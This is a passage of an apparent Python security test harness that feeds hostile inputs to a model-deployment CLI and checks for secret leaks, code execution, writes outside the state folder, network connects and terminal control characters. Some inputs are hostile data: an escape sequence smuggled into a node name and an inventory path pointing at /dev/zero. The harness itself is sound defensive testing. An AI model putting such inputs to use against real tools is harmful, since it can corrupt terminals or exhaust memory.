        ("sets a string", {"sets": "vllm.max_model_len=1"}),
        ("nodes with ESC", {"nodes": ["spark1\x1b[2J"]}),
        ("recipe_text a list", {"recipe_text": [1, 2]}),
    ]:
        out.append(Case(f"rollback: {name}", rollback, files={HISTORY: history(RECORD, rec)}))
    # the record's inventory is read only where none is found (no -i, no ./inventory.yaml): run from a folder
    # without one, so it is that path rollback opens
    out.append(
        Case(
            "rollback: inventory /dev/zero",
            rollback,
            files={HISTORY: history(RECORD, {"inventory": "/dev/zero"})},
            cwd="elsewhere",
        )
    )
    # -- recipes fit refuses what up refuses ---------------------------------------------------------------------
    out.append(
        Case(
            "recipes fit: cluster on one node",
            ["recipes", "fit", "openai-gpt-oss-120b", "-t", "cluster", "--nodes", "1"],
            owner="item 5",
        )
    )
    out.append(
        Case(
            "recipes fit: tensor_parallel 64 on two nodes",
            ["recipes", "fit", "openai-gpt-oss-120b", "-t", "cluster", "--nodes", "2", "--set", "tensor_parallel=64"],
            owner="item 5",
        )
    )
    return out


def _write(path: Path, content) -> None:
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content)


def _recorders(bin_dir: Path) -> None:
    bin_dir.mkdir()
    for name in ("docker", "vllm", "ray", "torchrun", "litellm", "nvidia-smi"):
        p = bin_dir / name
        p.write_text("#!/bin/sh\nexit 0\n")
        p.chmod(0o755)


CONNECTS: list[str] = []  # every connect tried during a case (refused: the corpus runs offline)


def _no_network() -> None:
    """Record and refuse every socket connect: a case that connects has not checked its input first."""
    import socket

    def refuse(self, address, *_a):
        CONNECTS.append(str(address))
        raise ConnectionRefusedError(111, "Connection refused (hostile_inputs.py runs offline)")

    socket.socket.connect = refuse  # type: ignore[method-assign]
    socket.socket.connect_ex = refuse  # type: ignore[method-assign]


def _inputs(case: Case, tmp: Path, inv: Path) -> None:
    for rel, content in case.files.items():
        path = tmp / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if content == "DIR":
            path.mkdir(exist_ok=True)
        elif content == "DEVZERO":
            path.symlink_to("/dev/zero")
        else:
            if isinstance(content, str):
                content = content.replace("{inv}", str(inv)).replace("{tmp}", str(tmp))
            _write(path, content)
            path.chmod(case.modes.get(rel, 0o600))


def _everything(base: Path) -> set[str]:
    return {str(p) for p in base.rglob("*")}


def _control(text: str) -> bool:
    """Raw control characters (ESC, CR, ...; not newline or tab) in what reached the terminal."""
    return any((ord(c) < 32 and c not in "\n\t") or ord(c) == 127 for c in text)


MEMORY_LIMIT = 3 << 30  # bytes of address space for this process
ERROR_LINES_MAX = 21  # the first 20 problems and one line with the count of the rest


def run_case(case: Case, base: Path) -> dict:
    tmp = Path(tempfile.mkdtemp(dir=base))
    before = _everything(base)
    state = tmp / "state"
    os.environ["SPARKDEPLOY_STATE"] = str(state)
    inv, recipes = tmp / "inventory.yaml", tmp / "recipes"
    _write(inv, case.inventory if case.inventory is not None else inventory())
    _inputs(case, tmp, inv)
    CONNECTS.clear()
    recipes.mkdir()
    _write(recipes / "openai-gpt-oss-120b.yaml", case.recipe if case.recipe is not None else RECIPE)
    secrets = tmp / "secrets.env"
    if case.secrets == "DIR":
        secrets.mkdir()
    elif case.secrets == "FIFO":
        os.mkfifo(secrets)
    elif case.secrets != "NONE":
        _write(
            secrets,
            case.secrets if case.secrets is not None else f"HF_TOKEN={CANARY_HF}\nLITELLM_MASTER_KEY={CANARY_KEY}\n",
        )
        if not secrets.is_fifo():
            secrets.chmod(0o600)
    (tmp / "open").mkdir()
    (tmp / "open").chmod(0o777)
    (tmp / "real").mkdir(mode=0o700)
    (tmp / "link").symlink_to(tmp / "real")
    argv = [
        a.replace("{inv}", str(inv)).replace("{recipes}", str(recipes)).replace("{tmp}", str(tmp)) for a in case.argv
    ]
    out, err = io.StringIO(), io.StringIO()
    escaped = None
    cwd = os.getcwd()
    (tmp / case.cwd).mkdir(exist_ok=True)
    os.chdir(tmp / case.cwd)
    t0 = time.monotonic()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = run_cli(cli, argv)
    except BaseException as exc:  # noqa: BLE001 - that is what this counts
        escaped, code = f"{exc.__class__.__name__}: {exc}"[:200], -1
    finally:
        os.chdir(cwd)
    seconds = time.monotonic() - t0
    text = out.getvalue() + err.getvalue()
    leaks = [c for c in (CANARY_HF, CANARY_KEY) if c in text]
    for f in tmp.rglob("*"):
        written_here = f.parent != tmp and recipes not in f.parents  # not one of the inputs above
        if f.is_file() and not f.is_symlink() and written_here and "--with-secrets" not in argv:
            body = f.read_bytes()
            leaks += [f"{c} in {f.relative_to(tmp)}" for c in (CANARY_HF, CANARY_KEY) if c.encode() in body]
    if case.run_scripts and code == 0:
        _recorders(tmp / "bin")
        home = tmp / "home"
        home.mkdir()
        env = {**os.environ, "PATH": f"{tmp / 'bin'}:{os.environ['PATH']}", "HOME": str(home)}
        for script in sorted((tmp / "r").rglob("*.sh")):
            subprocess.run(["bash", str(script)], cwd=tmp, env=env, capture_output=True, timeout=60)
    executions = [str(p.relative_to(base)) for p in base.rglob("PWNED*")]
    for p in base.rglob("PWNED*"):
        p.unlink()
    outside = sorted(
        str(Path(p).relative_to(base)) for p in _everything(base) - before if not Path(p).is_relative_to(tmp)
    )
    outside += [str(p.relative_to(base)) for p in tmp.rglob(f"{ESCAPED}*")]
    outside += [str(p) for p in Path("/tmp").glob(f"{ESCAPED}*")]
    for p in Path("/tmp").glob(f"{ESCAPED}*"):
        p.unlink()
    traceback = escaped is not None or "Traceback" in text
    wrong = code not in case.expect
    refused = case.expect == (2,)
    connected = refused and bool(CONNECTS)
    control = _control(text)
    forged = [line for line in text.splitlines() if line.strip().startswith(case.forbid)] if case.forbid else []
    flood = sum(1 for line in err.getvalue().splitlines() if line.startswith("error: ")) > ERROR_LINES_MAX
    cwd = os.getcwd()
    (tmp / case.cwd).mkdir(exist_ok=True)
    os.chdir(tmp / case.cwd)
    try:
        after = case.after(tmp, text) if case.after else ""
    finally:
        os.chdir(cwd)
    ok = not (wrong or traceback or leaks or executions or outside or connected or control or forged or flood or after)
    first = next((line for line in err.getvalue().splitlines() if line.strip()), "")
    return {
        "case": case.name,
        "owner": case.owner,
        "exit": code,
        "expected": list(case.expect),
        "ok": ok,
        "traceback": traceback,
        "accepted": wrong and refused and code in (0, 1),
        "escaped": escaped,
        "leaks": leaks,
        "executions": executions,
        "outside": outside,
        "connected": CONNECTS[:3] if connected else [],
        "control": control,
        "forged": forged[:3],
        "flood": flood,
        "after": after,
        "seconds": round(seconds, 2),
        "first_line": ascii(first[:160])[1:-1],
    }


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--json", action="store_true")
    ap.add_argument("--verbose", action="store_true")
    ap.add_argument("--only", choices=("old", "new"), help="one corpus (default: both)")
    args = ap.parse_args()
    _no_network()
    # A file read whole (/dev/zero) is a MemoryError here, not the kernel's OOM killer on a shared machine.
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))
    chosen = (cases() if args.only != "new" else []) + (new_cases() if args.only != "old" else [])
    with tempfile.TemporaryDirectory() as base_dir:
        base = Path(base_dir)
        for name in ("HF_TOKEN", "LITELLM_MASTER_KEY", "SPARKDEPLOY_INVENTORY", "SPARKDEPLOY_RECIPES"):
            os.environ.pop(name, None)
        results = [run_case(c, base) for c in chosen]
    summary = {
        "inputs": len(results),
        "tracebacks": sum(r["traceback"] for r in results),
        "accepted": sum(r["accepted"] for r in results),
        "leaks": sum(bool(r["leaks"]) for r in results),
        "executions": sum(bool(r["executions"]) for r in results),
        "outside": sum(bool(r["outside"]) for r in results),
        "connected": sum(bool(r["connected"]) for r in results),
        "control": sum(r["control"] for r in results),
        "forged": sum(bool(r["forged"] or r["after"]) for r in results),
        "floods": sum(r["flood"] for r in results),
        "wrong_exit": sum(r["exit"] not in r["expected"] for r in results),
        "failing": sum(not r["ok"] for r in results),
        "failing_owned_elsewhere": sum(not r["ok"] and bool(r["owner"]) for r in results),
        "slowest_s": max(r["seconds"] for r in results),
    }
    if args.json:
        print(json.dumps({"summary": summary, "results": results}, indent=2))
    else:
        for r in results:
            if args.verbose or not r["ok"]:
                mark = "ok  " if r["ok"] else "FAIL"
                flags = [
                    k
                    for k in ("leaks", "executions", "outside", "connected", "control", "forged", "flood", "after")
                    if r[k]
                ]
                print(
                    f"{mark} exit {r['exit']:>3} {r['case']}{' [' + r['owner'] + ']' if r['owner'] else ''}: "
                    f"{r['escaped'] or r['first_line']}" + "".join(f" {k}={r[k]}" for k in flags)
                )
        print(
            f"hostile inputs tried: {summary['inputs']}; tracebacks: {summary['tracebacks']}; accepted: "
            f"{summary['accepted']}; leaks: {summary['leaks']}; executions: {summary['executions']}; writes outside "
            f"the state folder: {summary['outside']}; connected before checking: {summary['connected']}; raw "
            f"control characters: {summary['control']}; forged lines or keys: {summary['forged']}; error floods: "
            f"{summary['floods']}; wrong exit codes: {summary['wrong_exit']}; failing: {summary['failing']} (of "
            f"which another item's: {summary['failing_owned_elsewhere']}); slowest case: {summary['slowest_s']:.2f} s"
        )
    return 0 if all(r["ok"] for r in results) else 1


if __name__ == "__main__":
    sys.exit(main())
